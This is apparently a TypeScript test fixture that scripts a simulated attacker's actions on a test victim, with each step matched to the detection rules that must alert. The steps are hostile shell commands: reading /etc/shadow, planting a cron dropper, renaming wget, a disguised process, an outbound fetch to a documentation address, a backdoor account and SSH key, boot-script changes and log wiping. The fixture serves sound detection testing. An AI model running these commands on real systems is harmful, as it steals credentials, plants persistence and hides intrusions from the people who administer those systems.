/**
 * What the attacker of the end-to-end test does once he is in: one step per row, with the programs that must show up in
 * the record and the rule that must speak. No step leaves the victim; addresses are those of RFC 5737.
 */
export interface Step {
  /** Line of the script, run by the log-in shell. */
  readonly line: string;
  /** Command lines that the record must hold, in order. */
  readonly commands: readonly string[];
  /** Rules of our pack that must alert. */
  readonly rules: readonly string[];
}

export const DROPPER = '/etc/cron.hourly/zbbpxdqalfe.sh';
/** What the cron script holds: echo_fds must print it. */
export const DROPPER_LINE = 'for i in 1 2 3; do /lib/libudev4.so; done # 3f9c1d';
/** Where the outbound attempt goes. */
export const OUTBOUND = { address: '192.0.2.77', port: 6667 };

export const steps: readonly Step[] = [
  { line: 'uname -a', commands: ['uname -a'], rules: ['Discovery command'] },
  { line: 'cat /etc/shadow > /tmp/.s', commands: ['cat /etc/shadow'], rules: ['Password hashes read'] },
  { line: `echo '${DROPPER_LINE}' > ${DROPPER}`, commands: [], rules: ['Scheduled task written'] },
  { line: `chmod +x ${DROPPER}`, commands: [`chmod +x ${DROPPER}`], rules: ['Dropped file made executable'] },
  {
    line: 'mv /usr/bin/wget /usr/bin/good',
    commands: ['mv /usr/bin/wget /usr/bin/good'],
    rules: ['Transfer tool renamed or copied', 'System program replaced'],
  },
  { line: 'cp /bin/sleep /tmp/.x', commands: ['cp /bin/sleep /tmp/.x'], rules: [] },
  {
    line: `bash -c 'exec -a "[kworker/0:1]" /tmp/.x 1'`,
    commands: ['bash -c exec -a "[kworker/0:1]" /tmp/.x 1', '[kworker/0:1] 1'],
    rules: ['Program run from an odd place', 'Process in disguise'],
  },
  {
    line: `good -q -T 1 -t 1 -O /tmp/y http://${OUTBOUND.address}:${OUTBOUND.port}/`,
    commands: [`good -q -T 1 -t 1 -O /tmp/y http://${OUTBOUND.address}:${OUTBOUND.port}/`],
    rules: ['Outbound connection'],
  },
  {
    line: 'useradd -m -s /bin/bash sysupd',
    commands: ['useradd -m -s /bin/bash sysupd'],
    rules: ['Account tool run', 'Account files changed'],
  },
  { line: 'mkdir -p /root/.ssh', commands: ['mkdir -p /root/.ssh'], rules: [] },
  {
    line: 'echo ssh-ed25519 AAAATESTONLY attacker@example.invalid >> /root/.ssh/authorized_keys',
    commands: [],
    rules: ['Authorised keys changed'],
  },
  {
    line: 'cp /tmp/.x /etc/init.d/gcc.sh',
    commands: ['cp /tmp/.x /etc/init.d/gcc.sh'],
    rules: ['Boot script or service changed'],
  },
  {
    line: 'truncate -s 0 /var/log/auth.log',
    commands: ['truncate -s 0 /var/log/auth.log'],
    rules: ['Log file tampered with'],
  },
  { line: 'rm -f /var/log/wtmp', commands: ['rm -f /var/log/wtmp'], rules: ['Log file tampered with'] },
];
